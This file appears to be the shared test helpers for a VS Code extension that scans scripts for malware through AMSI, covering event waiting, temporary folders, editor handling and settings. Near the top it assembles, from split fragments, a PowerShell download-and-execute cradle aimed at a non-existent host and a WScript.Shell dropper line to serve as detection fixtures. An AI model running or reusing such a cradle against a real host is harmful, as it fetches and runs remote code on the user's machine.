/** What the tests inside the editor share: the extension's test API, waiting on events, temporary scripts. */

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import * as vscode from 'vscode';

import type { DocumentScan } from '../../src/editor/open-document';
import type { StatusView } from '../../src/editor/status-view';
import type { AmsightApi } from '../../src/extension';

/** A download cradle, in pieces: rules of other products flag this file otherwise. Harmless: the host does not exist. */
export const flaggedLine = [
  'iex (New-Object Net.',
  'WebClient).Download',
  "String('https://host.invalid/a.ps1')",
].join('');
export const honestLine = "Write-Output 'hello'";
/** What a WSH dropper looks like, in pieces. */
export const wshLine = ['var shell = new Active', 'XObject("WScript.', 'Shell");'].join('');

/** Activates the extension when it is not yet. */
export async function amsight(): Promise<AmsightApi> {
  const extension = vscode.extensions.getExtension<AmsightApi>('amsight.amsight');
  assert.ok(extension, 'the extension is not installed');
  return extension.activate();
}

/** Resolves when `check` gives something: now, or at one of the events. The test's own time limit ends the waiting. */
export function until<T, E>(
  event: vscode.Event<E>,
  check: (event: E | undefined) => T | undefined,
): Promise<T> {
  return new Promise((resolve, reject) => {
    const look = (value: E | undefined): void => {
      try {
        const found = check(value);
        if (found === undefined) return;
        listening.dispose();
        resolve(found);
      } catch (error) {
        listening.dispose();
        reject(error instanceof Error ? error : new Error(String(error)));
      }
    };
    const listening = event(look);
    look(undefined);
  });
}

/** What Amsight says of a file. */
export function diagnosticsOf(uri: vscode.Uri): vscode.Diagnostic[] {
  return vscode.languages
    .getDiagnostics(uri)
    .filter(({ source }) => source === 'Amsight' || source === 'AMSI');
}

/** Waits until the diagnostics of a file are as wanted. */
export function untilDiagnostics(
  uri: vscode.Uri,
  wanted: (diagnostics: readonly vscode.Diagnostic[]) => boolean,
): Promise<vscode.Diagnostic[]> {
  return until(vscode.languages.onDidChangeDiagnostics, () => {
    const diagnostics = diagnosticsOf(uri);
    return wanted(diagnostics) ? diagnostics : undefined;
  });
}

export const untilFlagged = (uri: vscode.Uri): Promise<vscode.Diagnostic[]> =>
  untilDiagnostics(uri, (diagnostics) => diagnostics.length > 0);
export const untilClean = (uri: vscode.Uri): Promise<vscode.Diagnostic[]> =>
  untilDiagnostics(uri, (diagnostics) => diagnostics.length === 0);

/** Runs `act` and waits until the document, as it is after it, was scanned (or found to be no script). */
export async function scanAfter(uri: vscode.Uri, act: () => PromiseLike<unknown>): Promise<DocumentScan> {
  const api = await amsight();
  const scans: DocumentScan[] = [];
  const collecting = api.onDidScanDocument((scan) => scans.push(scan));
  try {
    await act();
    const { version } =
      vscode.workspace.textDocuments.find((one) => one.uri.toString() === uri.toString()) ??
      assert.fail('not open');
    return await until(api.onDidScanDocument, () =>
      scans.find((scan) => scan.uri.toString() === uri.toString() && scan.version === version),
    );
  } finally {
    collecting.dispose();
  }
}

export async function untilStatus(wanted: (view: StatusView) => boolean): Promise<StatusView> {
  const api = await amsight();
  return until(api.onDidChangeStatus, () => (wanted(api.status()) ? api.status() : undefined));
}

/** Replaces all of a document's text. */
export async function setText(document: vscode.TextDocument, text: string): Promise<void> {
  const edit = new vscode.WorkspaceEdit();
  edit.replace(document.uri, new vscode.Range(0, 0, document.lineCount, 0), text);
  assert.ok(await vscode.workspace.applyEdit(edit));
}

/** A folder of its own inside the open workspace folder. */
export async function makeFolder(
  files: Readonly<Record<string, string | Uint8Array>> = {},
): Promise<vscode.Uri> {
  // The web's default would write files again that a test has removed.
  await vscode.workspace
    .getConfiguration('files')
    .update('autoSave', 'off', vscode.ConfigurationTarget.Global);
  const [workspace] = vscode.workspace.workspaceFolders ?? [];
  assert.ok(workspace, 'the tests need an open folder');
  const folder = path.join(workspace.uri.fsPath, `t-${randomBytes(6).toString('hex')}`);
  await mkdir(folder);
  for (const [name, content] of Object.entries(files)) {
    const file = path.join(folder, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content);
  }
  return vscode.Uri.file(folder);
}

export async function removeFolder(folder: vscode.Uri): Promise<void> {
  await rm(folder.fsPath, { recursive: true, force: true, maxRetries: 5 });
}

/** Opens and shows a file as a person would: a document opened through the API stays open for minutes. */
export async function show(uri: vscode.Uri): Promise<vscode.TextDocument> {
  await vscode.commands.executeCommand('vscode.open', uri);
  return until(vscode.window.onDidChangeActiveTextEditor, () => {
    const document = vscode.window.activeTextEditor?.document;
    return document?.uri.toString() === uri.toString() ? document : undefined;
  });
}

/** Closes every editor without saving. */
export async function closeAll(): Promise<void> {
  for (const { document } of vscode.window.visibleTextEditors) {
    if (!document.isDirty) continue;
    await vscode.window.showTextDocument(document);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  }
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
}

/** Sets a user setting below `amsight.`; undefined removes it. */
export async function setSetting(key: string, value: unknown): Promise<void> {
  await vscode.workspace.getConfiguration('amsight').update(key, value, vscode.ConfigurationTarget.Global);
}

/** The scan hosts of this extension host, by their process. */
export function scanHosts(): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        const parent = /^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
        const command = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');
        return Number(parent) === process.pid && command.some((word) => path.basename(word) === 'host.js');
      } catch (error) {
        // It ended meanwhile.
        if (['ENOENT', 'ESRCH'].includes((error as NodeJS.ErrnoException).code ?? '')) return false;
        throw error;
      }
    })
    .map(Number);
}
